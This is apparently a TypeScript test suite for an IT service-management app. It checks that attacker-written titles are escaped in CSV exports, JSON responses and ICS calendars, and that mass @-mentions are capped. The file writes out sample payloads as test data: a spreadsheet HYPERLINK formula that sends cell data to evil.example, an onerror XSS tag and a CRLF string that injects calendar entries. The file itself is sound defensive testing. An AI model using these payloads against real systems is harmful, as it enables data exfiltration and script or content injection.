import { changes, insertChange } from '../support/itsm-cab.ts'
import { incidents, report } from '../support/itsm-core.ts'
import { describe, expect, test } from '../support/service.ts'

const formula = '=HYPERLINK("https://evil.example/?"&A1)'
const markup = '<img src=x onerror=alert(1)>'

describe('a title that somebody hostile wrote', () => {
  test('is no formula in a table', async ({ signIn }) => {
    const desk = await signIn('ServiceDeskAgent')
    for (const sign of ['=', '+', '-', '@']) await report(desk, { title: `${sign}1+1 ${desk.id}` })
    await report(desk, { title: formula })
    const { body } = await desk.get(`${incidents}/export?format=csv&reporter_id=me`)
    expect(body).not.toMatch(/(^|,)"?[=+@-]1\+1/m)
    expect(body).not.toMatch(/(^|,)"?=HYPERLINK/m)
    expect(body.match(/'[=+@-]1\+1/g)).toHaveLength(4)
  })

  test('stays what it is, and is never a page', async ({ signIn }) => {
    const desk = await signIn('ServiceDeskAgent')
    const incident = await report(desk, { title: markup })
    const response = await desk.get(`${incidents}/${incident.id}`)
    expect(response.json().title).toBe(markup)
    expect(response.headers).toMatchObject({
      'content-type': expect.stringMatching('application/json'),
      'x-content-type-options': 'nosniff',
    })
  })

  test('adds nothing to a calendar', async ({ db, signIn }) => {
    const desk = await signIn('ServiceDeskAgent')
    await insertChange(db, {
      requester_id: desk.id,
      title: '更新\r\nEND:VEVENT\r\nBEGIN:VALARM;x,y\\',
      scheduled_start: '2027-03-01T00:00:00.000Z',
      scheduled_end: '2027-03-01T01:00:00.000Z',
    })
    const range = 'start=2027-03-01T00:00:00Z&end=2027-03-02T00:00:00Z'
    const { body } = await desk.get(`${changes}/calendar?${range}&format=ics`)
    expect(body.match(/^END:VEVENT\r$/gm)).toHaveLength(1)
    expect(body).not.toMatch(/^BEGIN:VALARM/m)
    expect(body.replaceAll('\r\n ', '')).toContain('\\nEND:VEVENT\\nBEGIN:VALARM\\;x\\,y\\\\')
  })

  test('mentions no more people than fifty, however often it tries', async ({ db, signIn }) => {
    const desk = await signIn('ServiceDeskAgent')
    const incident = await report(desk)
    const { username } = await signIn('ServiceDeskAgent')
    const jobs = async () =>
      (await db.selectFrom('jobs').select('id').where('kind', '=', 'send_itsm_mail').execute())
        .length
    const before = await jobs()
    const url = `${incidents}/${incident.id}/work-notes`
    const flood = await desk.post(url, { content: `@${username} `.repeat(500) })
    expect(flood.statusCode, flood.body).toBe(201)
    expect((await jobs()) - before).toBe(1)
    const late = `${'@nobody '.repeat(50)}@${username}`
    expect((await desk.post(url, { content: late })).statusCode).toBe(201)
    expect((await jobs()) - before).toBe(1)
  })
})
